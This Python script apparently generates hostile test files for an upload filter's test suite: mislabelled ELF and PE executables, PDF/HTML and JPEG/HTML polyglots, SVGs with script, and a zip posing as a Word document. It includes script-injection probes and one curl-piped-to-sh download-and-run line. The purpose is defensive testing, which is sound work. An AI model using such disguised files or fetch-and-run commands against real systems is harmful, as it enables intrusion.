"""Writes the hostile sample files in this folder (run once; the files are committed, all tiny).

    .venv/bin/python tests/evidence/hostile/make_corpus.py

Each file is listed in tests/evidence/hostile_manifest.py with the name it is uploaded under and the
refusal message expected; a file here without a manifest entry fails the suite.
"""

import io
import struct
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent


def elf_executable() -> bytes:
    """A minimal x86-64 Linux ELF executable header (ET_EXEC), as a real compiler would start one."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
    header = ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    program = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x84, 0x84, 0x1000)
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05"  # exit(0)
    return header + program + code


def pe_executable() -> bytes:
    """A DOS stub pointing at a PE header for an x86-64 Windows executable."""
    dos = b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0x80)
    dos = dos.ljust(0x80, b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B) + b"\x00" * (0xF0 - 2)
    return dos + coff + optional + b"\x00" * 64


def tiny_jpeg_with_html() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "blue").save(out, "JPEG")
    data = out.getvalue()
    payload = b"<html><body><script>alert(document.cookie)</script></body></html>"
    comment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + comment + data[2:]  # a COM segment right after SOI: still a valid JPEG


def fake_docx_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", elf_executable())
        archive.writestr("readme.txt", "not a Word document")
    return out.getvalue()


FILES = {
    "html_named.pdf": b"<!DOCTYPE html><html><body><script>fetch('/evil')</script></body></html>\n",
    "html_named.txt": b"<html><head><title>x</title></head><body onload=alert(1)>hi</body></html>\n",
    "script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>\n",
    "svg_named.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
    "elf_named.jpg": elf_executable(),
    "pe_named.docx": pe_executable(),
    "empty.pdf": b"",
    "polyglot_pdf_html.pdf": b"%PDF-1.4\n%<html><body><script>alert(1)</script></body></html>\n"
    b"1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    "polyglot_jpeg_html.jpg": tiny_jpeg_with_html(),
    "zip_named.docx": fake_docx_zip(),
    "shell_script.txt": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    "truncated.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x02",
    "program.exe": pe_executable(),
    "no_extension": b"plain words\n",
    "benign.txt": b"An ordinary note, uploaded under hostile names.\n",
}


if __name__ == "__main__":
    for name, data in FILES.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(FILES)} files to {HERE}")
